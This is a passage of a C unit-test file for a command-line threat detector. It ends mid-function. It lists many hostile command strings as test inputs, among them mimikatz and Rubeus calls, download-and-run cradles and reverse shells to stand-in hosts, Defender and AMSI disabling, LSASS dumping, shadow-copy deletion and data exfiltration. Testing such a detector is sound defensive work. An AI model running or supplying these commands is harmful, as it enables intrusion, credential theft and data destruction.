#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <string.h>

#include <cmocka.h>

#include "base/limits.h"
#include "detect/phrases.h"

/* ---- The table ---- */

/* Texts in plain form, and a reason that each has. */
static const struct fires {
	const char	*text;
	enum rule	 rule;
} fires[] = {
	/* Tools */
	{ "invoke-mimikatz -command 'coffee'", R_ATTACK_TOOL },
	{ "c:\\tools\\mimikatz_trunk\\x64\\mimikatz.exe", R_ATTACK_TOOL },
	{ "x.exe privilege::debug sekurlsa::logonpasswords exit", R_ATTACK_TOOL },
	{ "x.exe \"lsadump::dcsync /user:corp\\krbtgt\"", R_ATTACK_TOOL },
	{ "sharphound.exe -c all --zipfilename x", R_ATTACK_TOOL },
	{ "invoke-bloodhound -collectionmethod all", R_ATTACK_TOOL },
	{ "rubeus.exe kerberoast /nowrap", R_ATTACK_TOOL },
	{ "c:\\x\\seatbelt.exe -group=all", R_ATTACK_TOOL },
	{ "certify.exe find /vulnerable", R_ATTACK_TOOL },
	{ "lazagne.exe all", R_ATTACK_TOOL },
	{ "juicypotatong.exe -t * -p c:\\x.exe", R_ATTACK_TOOL },
	{ "printspoofer64.exe -i -c cmd", R_ATTACK_TOOL },
	{ "python secretsdump.py corp/a@10.0.0.1", R_ATTACK_TOOL },
	{ "python3 wmiexec.py corp/a@10.0.0.1", R_ATTACK_TOOL },
	{ "netexec smb 10.0.0.0/24 -u a -p b", R_ATTACK_TOOL },
	{ "import-module .\\powerview.ps1", R_ATTACK_TOOL },
	{ ". .\\powercat.ps1; powercat -c 10.1.1.1 -p 443 -e cmd", R_ATTACK_TOOL },
	{ "invoke-allchecks | out-file c:\\x.txt", R_ATTACK_TOOL },
	{ "invoke-kerberoast -outputformat hashcat", R_ATTACK_TOOL },
	{ "invoke-powershelltcp -reverse -ipaddress 10.1.1.1 -port 443", R_ATTACK_TOOL },
	{ "get-gpppassword", R_ATTACK_TOOL },
	{ "get-keystrokes -logpath c:\\k.txt", R_ATTACK_TOOL },
	{ "out-minidump -dumpfilepath c:\\x", R_ATTACK_TOOL },
	{ "invoke-passwordspray -password x", R_ATTACK_TOOL },
	{ "winpeasx64.exe quiet", R_ATTACK_TOOL },
	/* Loaders */
	{ "[dllimport(\"kernel32.dll\")]public static extern intptr virtualalloc(intptr a)", R_IN_MEMORY },
	{ "$v::virtualprotectex($p, 1, 0x40)", R_IN_MEMORY },
	{ "$w::createthread(0,0,$x,0,0,0) # dllimport", R_IN_MEMORY },
	{ "createremotethread($h, 0)", R_IN_MEMORY },
	{ "[runtime.interopservices.marshal]::getdelegateforfunctionpointer($a, $b)", R_IN_MEMORY },
	{ "[system.reflection.assembly]::load($bytes)", R_IN_MEMORY },
	{ "[reflection.assembly]::load([convert]::frombase64string($a)).entrypoint.invoke($null, $n)", R_IN_MEMORY },
	{ "[appdomain]::currentdomain.load($b)", R_IN_MEMORY },
	{ "iex (new-object io.streamreader(new-object io.compression.gzipstream((new-object io.memorystream(,"
	    "[convert]::frombase64string('h4siaaa')),[io.compression.compressionmode]::decompress))).readtoend()",
	    R_IN_MEMORY },
	{ "[byte[]]$b = 0xfc,0xe8,0x82,0x00", R_IN_MEMORY },
	{ "buf = b'\\xfc\\x48\\x83\\xe4'", R_IN_MEMORY },
	{ "$a.definedynamicassembly($n, 'run')", R_IN_MEMORY },
	/* Cradles */
	{ "iex (new-object net.webclient).downloadstring('http://203.0.113.7/a')", R_DOWNLOAD_RUN },
	{ "(new-object net.webclient).downloadstring('http://a.example/x.ps1') | iex", R_DOWNLOAD_RUN },
	{ "iwr http://a.example/x -usebasicparsing|iex", R_DOWNLOAD_RUN },
	{ "irm a.example/install | iex", R_DOWNLOAD_RUN },
	{ "invoke-expression (invoke-webrequest -uri http://a.example/a).content", R_DOWNLOAD_RUN },
	{ "iex(curl http://a.example/x)", R_DOWNLOAD_RUN },
	{ "&([scriptblock]::create((irm http://a.example/x)))", R_DOWNLOAD_RUN },
	{ "curl -s http://a.example/x.sh | bash", R_DOWNLOAD_RUN },
	{ "wget -qo- http://a.example/x|sh", R_DOWNLOAD_RUN },
	{ "$h=new-object -com msxml2.xmlhttp;$h.open('get','http://a.example/x',$false);$h.send();iex $h.responsetext",
	    R_DOWNLOAD_RUN },
	{ "$c.downloadfile('http://a.example/a.exe','c:\\p\\a.exe');start-process c:\\p\\a.exe", R_DOWNLOAD_RUN },
	{ "iwr http://a.example/a.exe -outfile c:\\p\\a.exe; start-process c:\\p\\a.exe", R_DOWNLOAD_RUN },
	{ "certutil -urlcache -split -f http://a.example/a a.exe & start a.exe", R_DOWNLOAD_RUN },
	{ "powershell .(nslookup -q=txt a.example)[-1]", R_DOWNLOAD_RUN },
	{ "python -c \"import urllib.request as u;exec(u.urlopen('http://a.example/x').read())\"", R_DOWNLOAD_RUN },
	{ "$b=$wc.downloaddata('http://a.example/x');-join($b|%{$_ -bxor 3})", R_DOWNLOAD_RUN },
	{ "$s=([net.webrequest]::create('http://a.example')).getresponse().getresponsestream(); iex $s", R_DOWNLOAD_RUN },
	{ "iex (get-clipboard)", R_DOWNLOAD_RUN },
	{ "h=new activexobject(\"winhttp.winhttprequest.5.1\");eval(h.responsetext)", R_DOWNLOAD_RUN },
	/* Fetching */
	{ "(new-object net.webclient).downloadfile('http://a.example/a.zip','c:\\a.zip')", R_DOWNLOAD },
	{ "iwr -uri http://a.example/a -outf a", R_DOWNLOAD },
	{ "invoke-webrequest http://a.example/tool.exe", R_DOWNLOAD },
	{ "curl http://a.example/a -o a", R_DOWNLOAD },
	{ "iwr http://203.0.113.9/a", R_DOWNLOAD },
	{ "start-bitstransfer -source http://a.example/a -destination c:\\a", R_DOWNLOAD },
	{ "set x = createobject(\"msxml2.serverxmlhttp.6.0\"): x.open \"get\", u", R_DOWNLOAD },
	{ "$c=new-object net.http.httpclient;$c.getasync($u)", R_DOWNLOAD },
	{ "bitsadmin /transfer j http://a.example/a c:\\a", R_DOWNLOAD },
	{ "iwr https://raw.githubusercontent.com/a/b/c", R_DOWNLOAD },
	{ "irm https://pastebin.com/raw/abcd", R_DOWNLOAD },
	{ "iwr http://x.duckdns.org/a", R_DOWNLOAD },
	{ "urldownloadtofile 0, u, f", R_DOWNLOAD },
	{ "$w=new-object net.webclient;$w.headers.add('user-agent','mozilla/5.0 (windows nt 6.1)')", R_DOWNLOAD },
	{ "$w=new-object net.webclient;$w.openread($u)", R_DOWNLOAD },
	/* Addresses */
	{ "x https://intranet.example/health", R_WEB_ADDRESS },
	{ "x ftp://a.example/", R_WEB_ADDRESS },
	{ "$w=new-object system.net.webclient", R_WEB_ADDRESS },
	{ "mshta vbscript:close(execute(\"getobject(\"\"script:http://a.example/x.sct\"\")\"))", R_REMOTE_CODE },
	{ "getobject('script:\\\\10.0.0.1\\x\\a.sct')", R_REMOTE_CODE },
	/* Shells */
	{ "$c=new-object net.sockets.tcpclient('10.1.1.1',443);$s=$c.getstream()", R_TUNNEL },
	{ "bash -c 'bash -i >& /dev/tcp/10.1.1.1/443 0>&1'", R_TUNNEL },
	{ "python -c 'import socket,subprocess,os;s=socket.socket()'", R_TUNNEL },
	{ "socat exec:cmd tcp:10.1.1.1:1", R_TUNNEL },
	{ "ngrok tcp 3389", R_TUNNEL },
	{ "chisel client 10.1.1.1:80 r:socks", R_TUNNEL },
	{ "netsh interface portproxy add v4tov4 listenport=1", R_TUNNEL },
	{ "$l=[net.sockets.tcplistener]1;$l.start();$c=$l.accepttcpclient()", R_TUNNEL },
	{ "nc.exe 10.1.1.1 443 -e cmd.exe", R_TUNNEL },
	{ "iwr https://abc.ngrok.io/x", R_TUNNEL },
	/* Run as code */
	{ "iex $x", R_INVOKE_EXPRESSION },
	{ "$a|iex", R_INVOKE_EXPRESSION },
	{ "$executioncontext.invokecommand.invokescript($a)", R_INVOKE_EXPRESSION },
	{ ".([scriptblock]::create($a))", R_INVOKE_EXPRESSION },
	{ "&($pshome[4]+$pshome[30]+'x')", R_INVOKE_EXPRESSION },
	{ "[powershell]::create().addscript($a).invoke()", R_INVOKE_EXPRESSION },
	/* Decoding */
	{ "[text.encoding]::unicode.getstring([convert]::frombase64string($a))", R_DECODES },
	{ "python -c \"import base64;exec(base64.b64decode('aa'))\"", R_DECODES },
	{ "certutil -decode a.txt a.exe", R_DECODES },
	{ "echo aaaa | base64 -d | sh", R_DECODES },
	{ "iex ((gp hkcu:\\software\\x).y)", R_INLINE_SCRIPT },
	{ "iex (get-content c:\\x.txt)", R_INLINE_SCRIPT },
	/* Scripts */
	{ "mshta javascript:a=1;close()", R_INLINE_SCRIPT },
	{ "createobject(\"wscript.shell\").run \"calc\"", R_INLINE_SCRIPT },
	{ "echo msgbox 1 > c:\\x.vbs & c:\\x.vbs", R_INLINE_SCRIPT },
	{ "python -c \"import os\"", R_INLINE_SCRIPT },
	{ "perl -e 'use socket;'", R_INLINE_SCRIPT },
	{ "cmd /b /c start /b /min powershell -nop", R_INLINE_SCRIPT },
	{ "for /f %i in ('x') do %i", R_INLINE_SCRIPT },
	{ "if([intptr]::size -eq 4){$b='powershell.exe'}else{$b='c:\\windows\\syswow64\\windowspowershell\\v1.0\\powershell.exe'}",
	    R_INLINE_SCRIPT },
	/* Defences */
	{ "[ref].assembly.gettype('system.management.automation.amsiutils')", R_DEFENCES_OFF },
	{ "getprocaddress($h, 'amsiscanbuffer')", R_DEFENCES_OFF },
	{ "'etweventwrite'", R_DEFENCES_OFF },
	{ "set-mppreference -disablerealtimemonitoring $true", R_DEFENCES_OFF },
	{ "add-mppreference -exclusionpath c:\\", R_DEFENCES_OFF },
	{ "set-mppreference -mapsreporting 0", R_DEFENCES_OFF },
	{ "set-netfirewallprofile -profile domain,public -enabled false", R_DEFENCES_OFF },
	{ "uninstall-windowsfeature -name windows-defender", R_DEFENCES_OFF },
	{ "stop-service -name windefend -force", R_DEFENCES_OFF },
	{ "set-itemproperty hklm:\\software\\policies\\microsoft\\windows\\powershell\\scriptblocklogging -name "
	    "enablescriptblocklogging -value 0", R_DEFENCES_OFF },
	{ "reg add hklm\\software\\policies\\microsoft\\windows defender /v disableantispyware /t reg_dword /d 1", R_DEFENCES_OFF },
	{ "netsh advfirewall set allprofiles state off", R_DEFENCES_OFF },
	/* Traces */
	{ "clear-eventlog -logname security", R_LOGS_CLEARED },
	{ "wevtutil el | %{wevtutil cl $_}", R_LOGS_CLEARED },
	{ "[diagnostics.eventing.reader.eventlogsession]::globalsession.clearlog($l)", R_LOGS_CLEARED },
	{ "remove-item (get-psreadlineoption).historysavepath", R_LOGS_CLEARED },
	{ "(get-item x).creationtime = '01/01/2019'", R_LOGS_CLEARED },
	/* Credentials */
	{ "rundll32 c:\\windows\\system32\\comsvcs.dll, minidump 624 c:\\x full", R_CREDENTIALS },
	{ "get-process lsass | out-file; .dmp", R_CREDENTIALS },
	{ "copy \\\\?\\globalroot\\device\\harddiskvolumeshadowcopy1\\windows\\ntds\\ntds.dit c:\\x", R_CREDENTIALS },
	{ "reg save hklm\\sam c:\\x", R_CREDENTIALS },
	{ "new-object system.identitymodel.tokens.kerberosrequestorsecuritytoken -argumentlist $s", R_CREDENTIALS },
	{ "[security.cryptography.protecteddata]::unprotect($a,$null,0)", R_CREDENTIALS },
	{ "copy-item 'c:\\users\\a\\appdata\\local\\google\\chrome\\user data\\default\\login data' c:\\x", R_CREDENTIALS },
	{ "vaultcmd /listcreds:\"web credentials\"", R_CREDENTIALS },
	{ "netsh wlan show profile name=x key=clear", R_CREDENTIALS },
	{ "get-childitem -recurse | select-string -pattern password", R_CREDENTIALS },
	{ "$host.ui.promptforcredential('a','b','','')", R_CREDENTIALS },
	{ "findstr /s cpassword \\\\dc\\sysvol\\*.xml", R_CREDENTIALS },
	{ "gci c:\\ -recurse -include *.kdbx", R_CREDENTIALS },
	/* Recovery and data */
	{ "get-wmiobject win32_shadowcopy | remove-wmiobject", R_RECOVERY_INHIBITED },
	{ "get-wmiobject win32_shadowcopy | foreach { $_.delete() }", R_RECOVERY_INHIBITED },
	{ "vssadmin delete shadows /all /quiet", R_RECOVERY_INHIBITED },
	{ "bcdedit /set {default} recoveryenabled no", R_RECOVERY_INHIBITED },
	{ "remove-item c:\\ -recurse -force", R_DESTRUCTION },
	{ "remove-item -recurse -force c:\\*", R_DESTRUCTION },
	{ "clear-disk -number 1 -removedata", R_DESTRUCTION },
	{ "gci c:\\users -recurse | %{ $e=$aes.createencryptor(); [io.file]::writeallbytes($_,$x) }", R_DESTRUCTION },
	/* Accounts and rights */
	{ "new-localuser -name x -nopassword", R_ACCOUNT_CHANGED },
	{ "add-localgroupmember administrators x", R_ACCOUNT_CHANGED },
	{ "net user x y /add", R_ACCOUNT_CHANGED },
	{ "([adsi]'winnt://./administrators,group').add('winnt://corp/x')", R_ACCOUNT_CHANGED },
	{ "new-item hkcu:\\software\\classes\\ms-settings\\shell\\open\\command -force", R_PRIVILEGES },
	{ "reg add hklm\\software\\microsoft\\windows\\currentversion\\policies\\system /v enablelua /t reg_dword /d 0", R_PRIVILEGES },
	{ "[guid]'3e5fc7f9-9a51-4367-9063-a120244fbec7'", R_PRIVILEGES },
	/* Again */
	{ "new-itemproperty hkcu:\\software\\microsoft\\windows\\currentversion\\run -name x -value y", R_PERSISTENCE },
	{ "set-itemproperty 'hklm:\\software\\microsoft\\windows nt\\currentversion\\winlogon' userinit 'x'", R_PERSISTENCE },
	{ "set-wmiinstance -namespace root\\subscription -class __eventfilter -arguments $a", R_PERSISTENCE },
	{ "copy x.lnk \"c:\\programdata\\microsoft\\windows\\start menu\\programs\\startup\\x.lnk\"", R_PERSISTENCE },
	{ "add-content $profile 'iex $x'", R_PERSISTENCE },
	{ "copy c:\\windows\\system32\\cmd.exe c:\\windows\\system32\\sethc.exe", R_PERSISTENCE },
	{ "register-scheduledtask -taskname x -action $a", R_SCHEDULES },
	{ "new-service -name x -binarypathname c:\\x.exe", R_SERVICE_CHANGED },
	{ "set-itemproperty hklm:\\software\\x -name a -value b", R_REGISTRY_CHANGED },
	{ "set-content c:\\a.txt -stream hid -value x", R_ALTERNATE_STREAM },
	/* Elsewhere */
	{ "invoke-command -computername srv1 -scriptblock {whoami}", R_LATERAL_MOVEMENT },
	{ "enter-pssession -computername srv1", R_LATERAL_MOVEMENT },
	{ "invoke-wmimethod -class win32_process -name create -argumentlist x -computername srv1", R_LATERAL_MOVEMENT },
	{ "[activator]::createinstance([type]::gettypefromprogid('mmc20.application','10.1.1.1'))", R_LATERAL_MOVEMENT },
	{ "copy-item x.exe \\\\srv1\\c$\\temp\\x.exe", R_LATERAL_MOVEMENT },
	{ "set-item wsman:\\localhost\\client\\trustedhosts *", R_LATERAL_MOVEMENT },
	{ "([wmiclass]'win32_process').create('calc')", R_PROXY_EXECUTION },
	{ "start-process rundll32 x.dll,y", R_PROXY_EXECUTION },
	{ "add-type -typedefinition $c -outputassembly c:\\x.exe", R_COMPILES },
	/* Discovery */
	{ "get-netuser", R_DISCOVERY },
	{ "get-domaincomputer -unconstrained", R_DISCOVERY },
	{ "get-domain", R_DISCOVERY },
	{ "find-localadminaccess -verbose", R_DISCOVERY },
	{ "get-aduser -filter *", R_DISCOVERY },
	{ "get-adgroupmember 'domain admins'", R_DISCOVERY },
	{ "[directoryservices.activedirectory.domain]::getcurrentdomain()", R_DISCOVERY },
	{ "get-wmiobject -namespace root\\securitycenter2 -class antivirusproduct", R_DISCOVERY },
	{ "get-ciminstance win32_useraccount", R_DISCOVERY },
	{ "get-localgroupmember administrators", R_DISCOVERY },
	{ "1..254 | %{ test-connection 10.0.0.$_ -count 1 }", R_DISCOVERY },
	{ "get-mppreference | select exclusionpath", R_DISCOVERY },
	{ "adfind.exe -f objectcategory=person", R_DISCOVERY },
	/* Gathering, sending */
	{ "$g.copyfromscreen(0,0,0,0,$s);$b.save('c:\\x.png')", R_COLLECTION },
	{ "$k::getasynckeystate($i)", R_COLLECTION },
	{ "get-clipboard | out-file c:\\x", R_COLLECTION },
	{ "compress-archive c:\\users\\a\\documents c:\\x.zip", R_COLLECTION },
	{ "new-mailboxexportrequest -mailbox x", R_COLLECTION },
	{ "$w.uploadfile('http://a.example/u', 'c:\\x.zip')", R_EXFILTRATION },
	{ "irm -uri http://a.example/u -method post -infile c:\\x.zip", R_EXFILTRATION },
	{ "iwr http://a.example/u -method post -body (get-content c:\\x)", R_EXFILTRATION },
	{ "start-bitstransfer -source c:\\x -destination http://a.example/u -transfertype upload", R_EXFILTRATION },
	{ "irm -method post https://api.telegram.org/bot1:x/senddocument", R_EXFILTRATION },
	{ "nslookup x.abcd.oastify.com", R_EXFILTRATION },
	/* How */
	{ "powershell -w hidden -nop", R_HIDDEN_WINDOW },
	{ "powershell -ep bypass -file c:\\scripts\\a.ps1", R_POLICY_BYPASS },
	{ "convertto-securestring 'x' -asplaintext -force", R_PASSWORD_CLEAR },
	{ "get-computerinfo", R_DISCOVERY },
	{ "gwmi win32_computersystem", R_DISCOVERY },
	{ "for /l %i in (1,1,254) do ping -n 1 10.0.0.%i", R_DISCOVERY },
	{ "for /r c:\\users %f in (*.docx) do copy %f c:\\x", R_COLLECTION },
	{ "type c:\\x\\a.exe > c:\\x\\a.txt:b.exe", R_ALTERNATE_STREAM },
	{ "type c:\\x\\a.ps1 | powershell -noprofile -", R_INLINE_SCRIPT },
	{ "export-pfxcertificate -cert $c -filepath c:\\x.pfx", R_CREDENTIALS },
	{ "set-executionpolicy unrestricted -force", R_DEFENCES_OFF },
	{ "$env:complus_etwenabled=0; .\\a.exe", R_DEFENCES_OFF },
	{ "new-service -name x -binarypathname c:\\x.exe", R_PERSISTENCE },
	{ "[reflection.assembly]::loadfile('c:\\x\\a.dll')", R_LIBRARY_OUTSIDE },
	{ "timeout /t 3 & del c:\\x\\a.exe", R_LOGS_CLEARED },
};

/* What administrators write: below what is suspicious. */
static const char *const quiet[] = {
	"set-executionpolicy bypass -scope process -force; c:\\scripts\\x.ps1",
	"get-hotfix | export-csv c:\\reports\\hotfix.csv",
	"(get-wmiobject -class win32_operatingsystem).win32shutdown(6)",
	"import-pfxcertificate -filepath d:\\c.pfx -certstorelocation cert:\\localmachine\\my",
	"type d:\\a.txt d:\\b.txt > d:\\c.txt",
	"for /r d:\\logs %f in (*.log) do del %f",
	"[reflection.assembly]::loadfrom('c:\\program files\\contoso\\a.dll')",
	"timeout /t 10 & del d:\\stage\\a.csv",
	"nltest /sc_verify:contoso.com",
	"powershell.exe -executionpolicy bypass -file c:\\scripts\\backup.ps1",
	"powershell -noprofile -windowstyle hidden -executionpolicy bypass -file \"c:\\program files\\vendor\\agent.ps1\"",
	"powershell -command \"get-service spooler | restart-service\"",
	"powershell -command \"restart-service w3svc -force\"",
	"powershell -c \"stop-service spooler; remove-item c:\\windows\\system32\\spool\\printers\\* -force; start-service spooler\"",
	"get-process | sort-object cpu -descending | select -first 10 | export-csv c:\\reports\\cpu.csv",
	"get-wmiobject win32_operatingsystem | select caption | export-csv c:\\inv\\os.csv",
	"get-ciminstance win32_logicaldisk | where-object { $_.freespace -lt 10gb }",
	"get-childitem c:\\inetpub\\logs -recurse | where { $_.lastwritetime -lt (get-date).adddays(-30) } | remove-item",
	"compress-archive -path c:\\logs\\*.log -destinationpath d:\\archive\\logs.zip",
	"invoke-webrequest https://intranet.example/health -usebasicparsing",
	"invoke-webrequest http://localhost:8080/health -usebasicparsing",
	"invoke-restmethod https://api.example/v1/status",
	"send-mailmessage -to it@corp.example -from r@corp.example -subject report -smtpserver mail.corp.example -attachments c:\\r.csv",
	"choco upgrade all -y",
	"invoke-wsuscleanup -compress",
	"get-wsusserver | invoke-wsusservercleanup -cleanupobsoleteupdates",
	"robocopy d:\\data \\\\bkp01\\backup /mir /log:c:\\logs\\r.txt",
	"sqlcmd -s sql01 -q \"backup database x to disk='d:\\bak\\x.bak'\"",
	"wbadmin start backup -backuptarget:e: -include:c: -quiet",
	"start-dscconfiguration -path c:\\dsc -wait -force",
	"import-module activedirectory; get-aduser -filter * -properties passwordlastset | export-csv c:\\r.csv",
	"get-adcomputer -filter * | where lastlogondate -lt $d | disable-adaccount",
	"search-adaccount -lockedout | unlock-adaccount",
	"get-adgroupmember helpdesk | send-mailmessage",
	"gpupdate /force",
	"msiexec /i \\\\srv\\deploy\\agent.msi /qn",
	"msiexec /x {12345678-1234-1234-1234-123456789012} /qn",
	"powershell -c \"(get-date).tostring('yyyy')\"",
	"powershell -command \"set-content -path c:\\temp\\seen.txt -value ok\"",
	"powershell -command \"test-netconnection db01 -port 1433\"",
	"powershell -command \"test-connection dc01 -count 2\"",
	"powershell -c \"new-object net.sockets.tcpclient('db01',1433)\"",
	"[reflection.assembly]::loadwithpartialname('microsoft.updateservices.administration')",
	"[system.reflection.assembly]::load('system.windows.forms, version=4.0.0.0')",
	"add-type -assemblyname system.windows.forms",
	"add-type '[dllimport(\"user32.dll\")] public static extern bool showwindow(int h, int s);' -name w -namespace x",
	"set-mppreference -disablerealtimemonitoring $false",
	"update-mpsignature; start-mpscan -scantype quickscan",
	"remove-mppreference -exclusionpath c:\\temp",
	"set-netfirewallprofile -all -enabled true",
	"set-itemproperty hklm:\\software\\policies\\microsoft\\windows\\powershell\\scriptblocklogging -name "
	    "enablescriptblocklogging -value 1",
	"get-eventlog -logname system -newest 100 | export-csv c:\\r.csv",
	"wevtutil epl security d:\\archive\\security.evtx",
	"get-scheduledtask | where state -eq ready",
	"disable-scheduledtask -taskname \\vendor\\telemetry",
	"get-itemproperty hklm:\\software\\microsoft\\windows\\currentversion\\run",
	"reg query hklm\\software\\microsoft\\windows\\currentversion\\run",
	"remove-item c:\\temp\\* -recurse -force",
	"remove-item -recurse d:\\backup\\old",
	"rd /s /q c:\\temp\\build",
	"get-clusternode | get-clusterresource",
	"get-vm | checkpoint-vm",
	"get-exchangeserver; get-mailboxdatabase -status",
	"copy-item \\\\srv\\share\\a.txt c:\\a.txt",
	"echo done >> c:\\logs\\run.log",
	"echo off & call c:\\scripts\\run.bat",
	"for /f %i in (c:\\list.txt) do @echo %i",
	"forfiles /p c:\\logs /s /m *.log /d -30 /c \"cmd /c del @path\"",
	"cscript //b //nologo c:\\scripts\\maint.vbs",
	"python c:\\scripts\\report.py --out d:\\r",
	"node c:\\app\\server.js",
	"java -jar c:\\app\\a.jar",
	"php -f c:\\www\\cron.php",
	"c:\\program files\\google\\update\\googleupdate.exe /ua /installsource scheduler",
	"c:\\windows\\system32\\rundll32.exe startupscan.dll,susruntask",
	"c:\\windows\\system32\\sc.exe start w32time task_started",
	"c:\\program files\\certify the web\\certify.service.exe",
	"<task xmlns=\"http://schemas.microsoft.com/windows/2004/02/mit/task\">",
	"complex simplex mirmir relevant",
	"get-mpcomputerstatus | export-csv c:\\r.csv",
	"set-service -name w32time -startuptype automatic",
	"net stop spooler & net start spooler",
	"net use z: \\\\srv\\share",
	"begin { set-strictmode -version 2; $x = 1 } process { $input } end { $exec_wrapper = [scriptblock]::create($s); "
	    "&$exec_wrapper; [convert]::frombase64string($p) }",
	"&chcp.com 65001 > $null $split = $in.split(@(\"0\"), 2); set-variable -name json_raw -value $split[1]; "
	    "$exec_wrapper = [scriptblock]::create($split[0]); &$exec_wrapper",
	"update-help; update-module -force",
	"install-module pswindowsupdate -force; get-windowsupdate -install -acceptall -autoreboot",
	"certutil -crl",
	"start-process \"c:\\program files\\vendor\\app.exe\" -argumentlist /silent -wait",
	"start-bitstransfer -source \\\\srv\\share\\a.iso -destination d:\\",
	"get-hotfix | export-csv c:\\r.csv",
	"get-acl d:\\data | export-clixml c:\\acl.xml",
	"dfsrdiag backlog /rgname:x",
	"repadmin /replsummary",
	"dcdiag /v",
	"vssadmin list shadows",
	"diskshadow /s c:\\scripts\\snap.txt",
	"w32tm /resync",
	"robocopy \\\\srv1\\d$\\data \\\\nas\\backup /mir",
	"$p.kill(); write-eventlog -logname application -source x -eventid 1 -message done",
	"get-childitem c:\\winevt\\logs\\archive-*.evtx | remove-item",
	"select-string -path c:\\logs\\x.log -pattern 'password expired'",
	"$password = read-host; get-childitem c:\\x -recurse",
	"$s.creationtime; $t = [datetime]::now",
	"$i = new-object system.diagnostics.processstartinfo; $i.redirectstandardoutput = $true; $i.filename = 'x'",
	"invoke-webrequest https://intranet.example/x | select statuscode | out-file c:\\logs\\h.log",
	"$w = new-object -comobject wscript.shell; $w.createshortcut('c:\\x.lnk')",
	"for /f %i in (c:\\list.txt) do call c:\\scripts\\one.bat %i",
	"get-vm | stop-vm -force",
};

static void
judge(struct findings *f, const char *text, size_t len)
{
	uint8_t *copy = test_malloc(len + 1);	/* heap, so that ASan sees the edge */

	copy[len] = 'a';
	memcpy(copy, text, len);
	findings_init(f);
	phrases_judge(f, (struct view){ copy, len });
	test_free(copy);
}

static void
test_fires(void **state)
{
	struct findings f;
	size_t failed = 0;

	(void)state;
	for (size_t i = 0; i < nitems(fires); i++) {
		judge(&f, fires[i].text, strlen(fires[i].text));
		if (f.has[fires[i].rule])
			continue;
		print_error("no %s: %s\n", rule_info[fires[i].rule].name, fires[i].text);
		failed++;
	}
	assert_int_equal(failed, 0);
}

static void
test_quiet(void **state)
{
	struct rule_set rules;
	struct findings f;
	size_t failed = 0;

	(void)state;
	rule_set_init(&rules);
	for (size_t i = 0; i < nitems(quiet); i++) {
		judge(&f, quiet[i], strlen(quiet[i]));
		if (findings_score(&f, &rules) < rules.suspicious)
			continue;
		print_error("%s: %s\n", rule_info[findings_lead(&f, &rules)].name, quiet[i]);
		failed++;
	}
	assert_int_equal(failed, 0);
}

/* ---- The near misses: one reason that a text has not ---- */

static const struct fires misses[] = {
	{ "complex", R_INVOKE_EXPRESSION },
	{ "iexplore http://intranet.example/", R_INVOKE_EXPRESSION },
	{ "iex_helper", R_INVOKE_EXPRESSION },
	{ "fiex $x", R_INVOKE_EXPRESSION },
	{ "http://localhost/?to=http://a.example/", R_WEB_ADDRESS },
	{ "get-domainjoined", R_DISCOVERY },
	{ "invoke-webrequest https://intranet.example/health", R_DOWNLOAD },
	{ "invoke-webrequest https://intranet.example/a -outfile a.csv", R_DOWNLOAD_RUN },
	{ "curl https://intranet.example/a -o a.csv", R_DOWNLOAD_RUN },
	{ "start-process a.exe; iwr http://a.example/x -outfile y", R_DOWNLOAD_RUN },
	{ "c:\\a.exe://x", R_WEB_ADDRESS },
	{ "x://a.example", R_WEB_ADDRESS },
	{ "http://localhost/", R_WEB_ADDRESS },
	{ "http://", R_WEB_ADDRESS },
	{ "http://schemas.microsoft.com/x", R_WEB_ADDRESS },
	{ "start-bitstransfer -source c:\\x -destination http://a.example/u -transfertype upload", R_DOWNLOAD },
	{ "memorystream gzipstream", R_IN_MEMORY },
	{ "dllimport(\"user32.dll\") showwindow", R_IN_MEMORY },
	{ "[convert]::tobase64string($b)", R_DECODES },
	{ "new-object net.sockets.tcpclient('a',1)", R_TUNNEL },
	{ "set-content a -stream zone.identifier", R_ALTERNATE_STREAM },
	{ "invoke-command -scriptblock {x}", R_LATERAL_MOVEMENT },
	{ "invoke-command -computername localhost -scriptblock {x}", R_LATERAL_MOVEMENT },
	{ "get-wmiobject win32_process", R_PROXY_EXECUTION },
	{ "get-wmiobject win32_shadowcopy", R_RECOVERY_INHIBITED },
	{ "remove-item c:\\users\\a\\x -recurse", R_DESTRUCTION },
	{ "remove-item c:\\", R_DESTRUCTION },
	{ "new-itemproperty hkcu:\\software\\microsoft\\windows\\currentversion\\running", R_PERSISTENCE },
	{ "$f.creationtime == $x", R_LOGS_CLEARED },
	{ "set-mppreference -disablerealtimemonitoring $false", R_DEFENCES_OFF },
	{ "send-mailmessage -smtpserver mail.corp.example -attachments x", R_EXFILTRATION },
	{ "convertto-securestring $env:pw -asplaintext -force", R_PASSWORD_CLEAR },
	{ "xmimic atz", R_ATTACK_TOOL },
	{ "rubeusx seatbelts", R_ATTACK_TOOL },
};

static void
test_misses(void **state)
{
	struct findings f;
	size_t failed = 0;

	(void)state;
	for (size_t i = 0; i < nitems(misses); i++) {
		judge(&f, misses[i].text, strlen(misses[i].text));
		if (!f.has[misses[i].rule])
			continue;
		print_error("%s [%s]: %s\n", rule_info[misses[i].rule].name,
		    found_detail(&f, misses[i].rule), misses[i].text);
		failed++;
	}
	assert_int_equal(failed, 0);
}

/* ---- Each row of the table can hold, by each of its terms ---- */

static const struct source {
	const char	*terms;
	enum rule	 rule;
} sources[] = {
#define PHRASE(terms, rule) { terms, R_##rule },
#include "detect/phrases.def"
#undef PHRASE
};

/* The n-th alternative of a word, as a text has it.  False: there are fewer. */
static bool
write_term(const char *word, size_t len, size_t n, char *out, size_t size)
{
	static const char *const kinds[][2] = {
		{ "@url", "http://a.example/" }, { "@numeric-url", "http://203.0.113.1/" },
		{ "@program-url", "http://a.example/a.exe" },
	};
	size_t used = strlen(out), end;

	for (; n > 0; n--) {
		end = strcspn(word, "| ");
		if (end >= len)
			return false;
		word += end + 1;
		len -= end + 1;
	}
	end = strcspn(word, "| ");
	for (size_t i = 0; i < nitems(kinds); i++)
		if (strlen(kinds[i][0]) == end && memcmp(word, kinds[i][0], end) == 0) {
			snprintf(out + used, size - used, "%s ", kinds[i][1]);
			return true;
		}
	if (end == strlen("@base64") && memcmp(word, "@base64", end) == 0) {
		memset(out + used, '1', 200);
		memcpy(out + used + 200, " ", 2);
		return true;
	}
	for (size_t i = 0; i < end; i++)
		if (word[i] != '*' || (i > 0 && i + 1 < end))
			out[used++] = word[i] == '~' ? ' ' : word[i] == '^' ? '|' : word[i];
	memcpy(out + used, " ", 2);
	return true;
}

/* The phrase with the nth alternative of its word-th word, the first one of the others. */
static bool
write_phrase(const char *terms, size_t word, size_t nth, char *out, size_t size)
{
	out[0] = '\0';
